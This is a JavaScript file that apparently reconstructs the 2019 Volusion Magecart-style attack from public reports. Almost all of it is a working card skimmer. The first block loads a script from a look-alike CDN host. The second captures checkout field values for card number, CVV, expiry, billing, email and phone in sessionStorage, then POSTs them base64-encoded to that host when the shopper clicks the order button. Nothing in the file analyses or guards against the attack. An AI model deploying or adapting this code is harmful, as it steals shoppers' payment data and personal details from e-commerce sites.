// volusion-gcs, written from Luke Leal's disclosure and ZDNet's report "Hackers breach
// Volusion and start collecting card details from thousands of sites" (October 2019) and the
// Trend Micro write-up of the same incident: a line added to a JavaScript file that the
// shopping-cart platform served to all its shops from a cloud storage bucket loads the skimmer
// from a look-alike CDN host; the skimmer stores card fields in sessionStorage as they change
// and sends them when the shopper presses the order button.
(function () {
  var s = document.createElement("script");
  s.src = "https://cartplatform-cdn.invalid/resources/js/pcsvalidate.js?v=" + (new Date()).getDate();
  s.async = true;
  (document.head || document.documentElement).appendChild(s);
})();
(function () {
  var KEY = "__vs_fs";
  var names = /card|cc_|CreditCard|CVV|expir|Billing|email|phone/i;
  function store(el) {
    try {
      var o = JSON.parse(sessionStorage.getItem(KEY) || "{}");
      o[el.name || el.id] = el.value;
      sessionStorage.setItem(KEY, JSON.stringify(o));
    } catch (e) {}
  }
  function flush() {
    var raw = sessionStorage.getItem(KEY);
    if (!raw || raw.length < 30) return;
    var x = new XMLHttpRequest();
    x.open("POST", "https://cartplatform-cdn.invalid/resources/js/v.php", true);
    x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    x.send("d=" + encodeURIComponent(btoa(raw)) + "&s=" + encodeURIComponent(location.host));
    sessionStorage.removeItem(KEY);
  }
  document.addEventListener("change", function (e) {
    var t = e.target;
    if (t && t.tagName && /INPUT|SELECT/.test(t.tagName) && names.test(t.name || t.id)) store(t);
  }, true);
  document.addEventListener("click", function (e) {
    var b = e.target;
    if (b && (b.id === "btnSubmitOrder" || b.name === "btnSubmitOrder" || /place.?order/i.test(b.value || b.textContent))) flush();
  }, true);
})();
